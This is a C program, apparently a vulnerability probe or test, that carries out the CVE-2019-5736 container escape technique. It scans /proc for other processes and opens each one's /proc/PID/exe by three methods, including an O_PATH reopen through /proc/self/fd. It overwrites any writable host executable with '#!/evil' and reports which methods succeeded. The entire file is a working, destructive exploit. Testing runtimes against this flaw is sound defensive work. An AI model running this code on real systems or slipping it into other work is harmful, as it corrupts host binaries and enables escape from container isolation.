/* overwrite-exe ROUNDS - CVE-2019-5736: looks for a process whose program is a file of the host and
 * overwrites it through /proc/PID/exe.
 *
 * Each round tries all processes but this one, each by three roads: for reading, for writing, and
 * for writing by way of an O_PATH descriptor, which outlives the process. Prints a line for each
 * road: "ROAD: DEVICE:INODE" of what it opened first, or "ROAD: reason" if it never opened
 * anything; and "ROAD: OVERWRITTEN" if a write went through.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int open_through_path(const char *exe)
{
    char again[64];
    int path_fd = open(exe, O_PATH | O_CLOEXEC);
    if (path_fd < 0)
        return -1;
    (void)snprintf(again, sizeof(again), "/proc/self/fd/%d", path_fd);
    int fd = open(again, O_WRONLY | O_CLOEXEC);
    int reason = errno;
    (void)close(path_fd);
    errno = reason;
    return fd;
}

static int open_to_read(const char *exe)
{
    return open(exe, O_RDONLY | O_CLOEXEC);
}

static int open_to_write(const char *exe)
{
    return open(exe, O_WRONLY | O_CLOEXEC);
}

struct road {
    const char *name;
    int (*open)(const char *exe);
    bool opened;
    int reason;
};

static void try_road(struct road *road, const char *exe)
{
    struct stat status;
    int fd = road->open(exe);
    if (fd < 0) {
        road->reason = errno;
        return;
    }
    if (!road->opened && fstat(fd, &status) == 0)
        (void)printf("%s: %llu:%llu\n", road->name, (unsigned long long)status.st_dev,
                     (unsigned long long)status.st_ino);
    road->opened = true;
    if (pwrite(fd, "#!/evil\n", 8, 0) > 0)
        (void)printf("%s: OVERWRITTEN\n", road->name);
    (void)close(fd);
}

static void attack(struct road *roads, size_t count)
{
    DIR *proc = opendir("/proc");
    if (proc == NULL)
        exit(EXIT_FAILURE);
    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
        char exe[64];
        long pid = strtol(entry->d_name, NULL, 10);
        if (pid <= 0 || pid == getpid())
            continue;
        (void)snprintf(exe, sizeof(exe), "/proc/%ld/exe", pid);
        for (size_t i = 0; i < count; i++)
            try_road(&roads[i], exe);
    }
    (void)closedir(proc);
}

int main(int argc, char **argv)
{
    struct road roads[] = {
        {.name = "read", .open = open_to_read},
        {.name = "write", .open = open_to_write},
        {.name = "reopen", .open = open_through_path},
    };
    size_t count = sizeof(roads) / sizeof(roads[0]);
    long rounds = argc > 1 ? strtol(argv[1], NULL, 10) : 1;
    for (long i = 0; i < rounds; i++)
        attack(roads, count);
    for (size_t i = 0; i < count; i++)
        if (!roads[i].opened)
            (void)printf("%s: %s\n", roads[i].name, strerror(roads[i].reason));
    return EXIT_SUCCESS;
}
